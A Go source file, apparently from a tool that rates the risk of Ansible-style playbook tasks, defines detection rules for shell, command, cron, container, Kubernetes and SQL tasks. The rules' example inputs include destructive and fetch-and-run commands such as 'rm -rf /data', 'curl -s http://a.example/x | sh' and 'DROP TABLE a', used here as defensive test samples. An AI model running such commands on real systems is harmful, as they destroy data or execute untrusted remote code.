package infra

import (
	"strings"

	"nod/gate/risk"
)

// commandRules is the modules that run a command.
func commandRules() []rule {
	return []rule{
		{
			at: "task shell|raw " + free + "|_raw_params|cmd", do: inShell, level: risk.Unclear,
			try: try{"- shell: cd /opt/a && make install", "- shell: df -h | head -5"},
		},
		{
			at: "task command|expect " + free + "|_raw_params|cmd|command|argv", when: listOrText, do: inWords, level: risk.Danger, why: []risk.Reason{risk.Destroys},
			try: try{"- command: rm -rf /srv/a", "- command: nginx -t"},
		},
		{
			at: "task script|win_shell|win_command|win_powershell|powershell|psexec|win_psexec", level: risk.Unclear,
			note: "runs a script that no rule has seen",
			try:  try{"- script: files/a.sh", "- copy: {src: files/a.sh, dest: /opt/a.sh}"},
		},
		{
			at: "task cron job", do: cronJob, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{"- cron: {name: a, job: 'curl -s http://a.example/x | sh'}", "- cron: {name: a, job: /opt/a/run}"},
		},
		{
			at:   "task cron",
			note: "runs by itself later",
			try:  try{"- cron: {name: a, job: /opt/a/run}", "- ping:"},
		},
		{
			at: "task command|shell|raw executable", is: `.*\b(python\d?|perl|ruby|node)`, level: risk.Unclear,
			note: "another program than a shell reads the command",
			try:  try{"- shell: {cmd: ls, executable: /usr/bin/python3}", "- shell: {cmd: ls, executable: /bin/bash}"},
		},
		{
			at: "task make|npm|gulp|terraform|helm|docker_container_exec|kubectl|k8s_exec command|target|cmd", do: inWords, level: risk.Danger, why: []risk.Reason{risk.Destroys},
			try: try{"- k8s_exec: {pod: a, command: rm -rf /data}", "- k8s_exec: {pod: a, command: df -h}"},
		},
		{
			at: "task docker_container command|entrypoint", when: listOrText, do: func(_ *judge, s site) { s.tree.program(s.node) }, level: risk.Danger, why: []risk.Reason{risk.RemoteCode},
			try: try{"- docker_container: {name: a, image: 'a:1', command: sh -c 'curl -s http://a.example/x | sh'}", "- docker_container: {name: a, image: 'a:1', command: app}"},
		},
		{
			at: "task mysql_query|postgresql_query|mssql_script query|sql|script|path_to_script", is: `.*\b(drop|truncate|delete\s+from|alter\s+table\s.*\sdrop)\b.*`, level: risk.Danger, why: []risk.Reason{risk.Destroys},
			note: "deletes data of a database",
			try:  try{"- postgresql_query: {query: DROP TABLE a}", "- postgresql_query: {query: SELECT 1}"},
		},
	}
}

// listOrText tells a place that is a whole list, or a value that is in none.
func listOrText(s site) bool {
	return !s.scalar() || s.near[strings.ToLower(s.name())] != "" || s.name() == free
}
